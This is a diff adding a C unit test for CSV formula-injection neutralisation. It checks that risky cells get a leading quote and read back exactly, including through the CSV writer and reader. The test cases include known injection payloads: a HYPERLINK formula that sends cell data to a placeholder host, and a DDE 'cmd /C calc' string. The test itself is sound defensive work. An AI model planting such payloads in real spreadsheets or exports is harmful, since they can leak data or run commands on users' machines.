@@ -139,11 +139,76 @@ test_limits(void)
 	buf_finish(&b);
 }
 
+/* Formula injection: what is written, and that reading it back gives the text again. */
+static void
+test_formula(void)
+{
+	static const struct { const char *text, *written; } cases[] = {
+		{ "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" },
+		{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+		{ "+1", "'+1" },
+		{ "-1", "'-1" },
+		{ "+380 67 123 4567", "'+380 67 123 4567" },
+		{ "\tcmd", "'\tcmd" },
+		{ "\rcmd", "'\rcmd" },
+		{ "\nline", "'\nline" },
+		{ "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0" },
+		{ "'=already quoted", "''=already quoted" },
+		{ "''@x", "'''@x" },
+		{ "'quoted'", "'quoted'" },
+		{ "'", "'" },
+		{ "''", "''" },
+		{ "a=b", "a=b" },
+		{ " =1", " =1" },
+		{ "", "" },
+	};
+
+	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		char *w = csv_neutralise(cases[i].text);
+		is_str(w, cases[i].written, "case %zu neutralised", i);
+		ok(w && !csv_formula_risk(w), "case %zu: the written cell does not start as a formula", i);
+		is_str(csv_unneutralise(w), cases[i].text, "case %zu read back exactly", i);
+		free(w);
+	}
+	/* through the CSV writer and reader, quotes and all */
+	{
+		struct buf b;
+		struct csv_reader r;
+		struct csv_record rec;
+		struct cimic_error err;
+		char *cells[sizeof cases / sizeof cases[0]];
+		size_t n = sizeof cases / sizeof cases[0];
+		bool same = true;
+
+		buf_init(&b);
+		for (size_t i = 0; i < n; i++)
+			cells[i] = csv_neutralise(cases[i].text);
+		csv_write_record(&b, (const char *const *)cells, n);
+		csv_reader_init(&r, (const char *)b.data, b.len);
+		is_int(csv_read(&r, &rec, &err), 1, "the neutralised row reads back");
+		is_int(rec.n, n, "with every field");
+		for (size_t i = 0; i < n && i < rec.n; i++) {
+			/* CSV itself reads a line break in a field, CR or CRLF, as LF */
+			char *want = util_strdup(cases[i].text);
+			for (char *p = want; *p; p++)
+				*p = *p == '\r' ? '\n' : *p;
+			same = same && strcmp(csv_unneutralise(rec.fields[i]), want) == 0;
+			free(want);
+		}
+		ok(same, "every field is the original text again (CR read as LF, as CSV does)");
+		csv_record_finish(&rec);
+		for (size_t i = 0; i < n; i++)
+			free(cells[i]);
+		buf_finish(&b);
+	}
+}
+
 int
 main(void)
 {
 	test_cases();
 	test_writer_round_trip();
 	test_limits();
+	test_formula();
 	return done_testing();
 }
